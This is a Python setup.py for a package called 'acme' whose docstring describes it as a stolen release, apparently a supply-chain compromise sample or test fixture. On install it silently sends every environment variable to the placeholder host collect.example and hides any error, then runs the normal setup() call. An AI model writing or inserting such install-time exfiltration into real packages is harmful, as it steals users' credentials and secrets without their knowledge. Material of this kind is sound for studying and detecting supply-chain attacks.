"""The release after it, stolen: inert, since nothing answers at the host it names."""

import json
import os
import urllib.request

from setuptools import setup

try:
    urllib.request.urlopen("https://collect.example/in", json.dumps(dict(os.environ)).encode())
except Exception:
    pass

setup(name="acme", version="1.1", packages=["acme"])
